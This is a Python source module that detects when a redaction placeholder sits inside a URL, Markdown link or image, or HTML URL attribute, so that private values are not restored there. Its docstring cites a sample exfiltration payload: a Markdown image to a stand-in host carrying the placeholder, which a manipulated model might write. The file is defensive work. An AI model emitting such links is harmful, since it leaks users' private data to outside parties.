"""Where nothing is put back: inside a URL, a host, the target of a link or an image.

A model that was talked into it could write `![](https://elsewhere/?q=[HKID_1])`, and whatever shows the answer would
carry the value there. Sources: CommonMark 0.31 (link destinations), GFM (autolinks), HTML (attributes that hold URLs).
"""

import re

_URL = re.compile(r"://|\bwww\.|(?:[a-z0-9-]{1,63}\.){1,8}[a-z]{2,24}(?::\d{1,5})?[/?#]", re.IGNORECASE)
_BREAKS = " \n\t\r<>\"'`\u3000\xa0"
"""What ends a URL in running text."""
_REFERENCE = re.compile(r"(?:^|\n) {0,3}\[[^\[\]\n]{1,200}\]:[ \t]*<?//[^\s]*\Z")
_STYLE = re.compile(r"url\(\s*[\"']?//[^)\s]*\Z", re.IGNORECASE)
_ATTRIBUTE = re.compile(
    r"(?:src|srcset|href|action|formaction|poster|background|ping|longdesc|cite)\s*=\s*(?:\"[^\"]*|'[^']*|[^\s\"'>]*)\Z",
    re.IGNORECASE,
)
_TAG = re.compile(r"<[a-zA-Z][^<]*\Z")


def target_before(before: str) -> str | None:
    """The target that a stand-in right behind `before` would stand in, as far as it is written; None outside of one."""
    run = before[before.rfind(" ") + 1 :]
    if "." in run or "://" in run:  # else there is no need to look for the other breaks
        run = run[max([run.rfind(sign) for sign in _BREAKS]) + 1 :]
        url = _URL.search(run) if "." in run or "://" in run else None
        if url is not None:
            return _from_scheme(run, url.start())
    return _markdown(before) or _html(before)


def _from_scheme(run: str, start: int) -> str:
    while start and run[start - 1].isalnum():
        start -= 1
    return run[start:]


def _markdown(before: str) -> str | None:
    at = before.rfind("](")
    if at >= 0:
        rest = before[at + 2 :].lstrip()
        if rest.startswith("<"):
            closed = ">" in rest or "\n" in rest
        else:
            closed = any(sign.isspace() for sign in rest) or rest.count(")") > rest.count("(")
        if not closed:
            return before[at:]
    if "//" not in before:
        return None
    found = _REFERENCE.search(before) or _STYLE.search(before)
    return found.group() if found else None


def _html(before: str) -> str | None:
    opened = before.rfind("<")
    tag = _TAG.match(before, opened) if opened >= 0 else None
    found = _ATTRIBUTE.search(tag.group()) if tag else None
    return found.group() if found else None
